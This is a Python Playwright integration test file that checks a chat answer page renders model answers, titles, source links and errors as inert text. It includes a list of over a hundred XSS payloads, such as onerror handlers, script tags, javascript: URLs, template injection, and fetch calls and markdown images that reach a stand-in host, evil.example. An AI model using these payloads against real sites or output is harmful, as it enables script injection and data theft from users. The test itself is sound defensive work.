"""T11, LLM05: whatever stands in a title, a snippet, an answer or an error is text; nothing runs, nothing leaves."""

from itertools import product

import pytest
from playwright.sync_api import expect

from browsing import QUOTE, Watched, answer_with, done, meta, said

pytestmark = pytest.mark.integration

RUN = ("window.broken=1", "fetch(`//evil.example/`)", "location=`//evil.example/`")
FORMS = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<script>{run}</script>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<a href=javascript:{run}>x</a>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<input autofocus onfocus={run}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "![x](https://evil.example/?q={run})",
    "[x](javascript:{run})",
    "</em><img src=x onerror={run}><em>",
    "<em><img src=x onerror={run}></em>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "<img src='//evil.example/x.png'>",
    '"><script>{run}</script>',
    "'-{run}-'",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<select><option><img src=x onerror={run}></select>",
    "<table background=//evil.example/x>",
    "<isindex type=image src=1 onerror={run}>",
)
VECTORS = [form.format(run=run) for form, run in product(FORMS, RUN)]
INSERTED = "main img, main script, main iframe, main a, main style, main object, dialog img"


def test_there_are_a_hundred_vectors() -> None:
    assert len(VECTORS) >= 100


def test_nothing_of_an_answer_its_sources_or_its_end_is_ever_markup(watched: Watched) -> None:
    page = watched.open()
    for start in range(0, len(VECTORS), 12):
        events = [meta()]
        for number, vector in enumerate(VECTORS[start : start + 12], 1):
            at = sum(len(str(data["text"])) for name, data in events if name == "delta")
            events += said(number, vector, at, title=vector, url=f"javascript:{vector}")
        answer_with(page, *events, done("answered", "generated"))
        page.goto(f"{watched.origin}/?q=How+long+is+leave%3F&at={start}")
        expect(page.locator("#answer .marker").first).to_be_visible()

        assert page.locator("#answer .text").text_content() != ""
        assert VECTORS[start] in str(page.locator("#answer").text_content())
        assert page.locator(INSERTED).count() == 0
        assert page.evaluate("window.broken") is None
        page.unroute("**/api/v1/answer")


def test_nothing_of_a_question_a_message_or_an_error_is_ever_markup(watched: Watched) -> None:
    page = watched.open()
    for vector in VECTORS[::9]:
        end = done("skipped", "none", "conversation")
        answer_with(page, ("meta", {**meta()[1], "rewritten": vector}), (end[0], {**end[1], "message": vector}))
        page.goto(f"{watched.origin}/?q=hello")
        expect(page.locator("#answer")).to_contain_text(vector)
        page.unroute("**/api/v1/answer")
        answer_with(page, meta(), *said(1, QUOTE, 0), ("error", {"type": "x", "title": vector, "detail": vector}))
        page.goto(f"{watched.origin}/?q=How+long+is+leave%3F")
        expect(page.get_by_role("alert")).to_contain_text(vector)
        page.unroute("**/api/v1/answer")

        assert page.locator(INSERTED).count() == 0
        assert page.evaluate("window.broken") is None
